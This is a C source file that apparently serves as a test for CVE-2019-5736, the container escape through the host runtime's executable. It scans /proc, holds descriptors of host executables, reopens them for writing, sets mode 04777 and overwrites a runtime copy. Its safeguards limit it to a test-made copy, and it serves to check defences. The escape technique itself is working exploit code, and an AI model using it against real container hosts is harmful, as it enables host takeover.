/* The attacker of CVE-2019-5736: keeps a descriptor of the executable of every process that enters its pid namespace,
 * and tries to open it again for writing once nobody runs it, to change its mode, and to truncate it.
 *
 *   overwrite STOPFILE DEVICE INODE SIZE
 *
 * runs until STOPFILE exists (at most 120 seconds), then 2 seconds more. It changes only the file of this device and
 * inode number, a copy of the runtime that the test made, and besides opens for writing only a copy of that copy (a
 * memfd, or the same inode number and size on another device, as an overlay shows it). Anything else is left alone: to
 * open ld.so for writing, even for a moment, keeps every program of the host from starting. One line per finding:
 *   saw LINK              an executable outside this mount namespace was opened for reading
 *   writable HOW LINK     … and for writing, or its mode was changed */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static struct held { int fd; dev_t dev; ino_t ino; char link[160]; int told, prey; } held[64];
static int count, self;
static off_t target_size;
static unsigned long long target_dev, target_ino, own_mounts[4096];
static int mount_count;

static int is_inside(int fd)
{
    struct statx st;
    if (statx(fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &st))
        return 1;
    for (int i = 0; i < mount_count; i++)
        if (own_mounts[i] == st.stx_mnt_id)
            return 1;
    return 0;
}

/* Whether this is the file under attack, or a runtime's private copy of it. */
static int is_prey(const struct stat *st, const char *link)
{
    if (st->st_dev == target_dev && st->st_ino == target_ino)
        return 1;
    return !strncmp(link, "/memfd:", 7) || (st->st_ino == target_ino && st->st_size == target_size);
}

/* A copy in memory that nobody can write to any more (memfd_create(2)), whatever its mode says. */
static int is_sealed(int fd)
{
    int seals = fcntl(fd, F_GET_SEALS);
    return seals >= 0 && (seals & F_SEAL_WRITE);
}

static void try_to_write(struct held *h, const char *how, const char *path, int flags)
{
    /* Only the copy is ever opened for writing: an open for writing, however short, makes every execution of that file on
     * the host fail with ETXTBSY, and for the host's loader (seen through nsenter) that is every execution of anything. */
    int is_target = h->dev == target_dev && h->ino == target_ino;
    int fd = is_target ? open(path, flags | O_CLOEXEC) : -1;
    if (is_sealed(h->fd))
        return;
    if (is_target ? fd < 0 : faccessat(AT_FDCWD, path, W_OK, AT_EACCESS) < 0)
        return;
    if (!(h->told & 1))
        printf("writable %s %s\n", how, h->link);
    h->told |= 1;
    if (is_target) {
        static const char payload[] = "#!/bin/false overwritten by the container\n";
        if (write(fd, payload, sizeof payload - 1) < 0)
            perror("write");
        if (ftruncate(fd, sizeof payload - 1))
            perror("ftruncate");
        close(fd);
    }
    fflush(stdout);
}

static void attack(struct held *h)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
    try_to_write(h, "reopened", path, O_WRONLY);
    if (h->dev == target_dev && h->ino == target_ino && !(h->told & 2) && !chmod(path, 04777)) {
        h->told |= 2;
        printf("writable chmod %s\n", h->link);
        fflush(stdout);
    }
}

static void hold(const char *path)
{
    struct stat st;
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return;
    if (fstat(fd, &st) || !S_ISREG(st.st_mode) || is_inside(fd)) {
        close(fd);
        return;
    }
    for (int i = 0; i < count; i++)
        if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
            close(fd);
            return;
        }
    if (count == 64) {
        close(fd);
        return;
    }
    struct held *h = &held[count++];
    *h = (struct held){.fd = fd, .dev = st.st_dev, .ino = st.st_ino};
    if (readlink(path, h->link, sizeof h->link - 1) < 0)
        strcpy(h->link, "?");
    h->prey = is_prey(&st, h->link);
    printf("saw %s\n", h->link);
    fflush(stdout);
    if (!h->prey)
        return;
    try_to_write(h, "direct", path, O_WRONLY);
    try_to_write(h, "direct", path, O_RDWR);
}

static void look_at_process(int pid)
{
    char path[96];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    hold(path);
    snprintf(path, sizeof path, "/proc/%d/map_files", pid);
    DIR *dir = opendir(path);
    struct dirent *entry;
    while (dir && (entry = readdir(dir)))
        if (entry->d_name[0] != '.') {
            snprintf(path, sizeof path, "/proc/%d/map_files/%.50s", pid, entry->d_name);
            hold(path);
        }
    if (dir)
        closedir(dir);
    for (int fd = 3; fd < 32; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        hold(path);
    }
}

int main(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    target_size = (off_t)strtoull(argv[4], NULL, 10);
    target_dev = strtoull(argv[2], NULL, 10);
    target_ino = strtoull(argv[3], NULL, 10);
    self = getpid();
    FILE *table = fopen("/proc/self/mountinfo", "r");
    char line[8192];
    while (table && mount_count < 4096 && fgets(line, sizeof line, table))
        own_mounts[mount_count++] = strtoull(line, NULL, 10);
    puts("scanning");
    fflush(stdout);
    DIR *proc = opendir("/proc");
    time_t end = time(NULL) + 120;
    int stopping = 0;
    while (proc && time(NULL) < end) {
        struct dirent *entry;
        rewinddir(proc);
        while ((entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (pid > 0 && pid != self)
                look_at_process(pid);
        }
        for (int i = 0; i < count; i++)
            if (held[i].prey)
                attack(&held[i]);
        if (!stopping && !access(argv[1], F_OK)) {
            stopping = 1;
            end = time(NULL) + 2;
        }
    }
    puts("done");
    return 0;
}
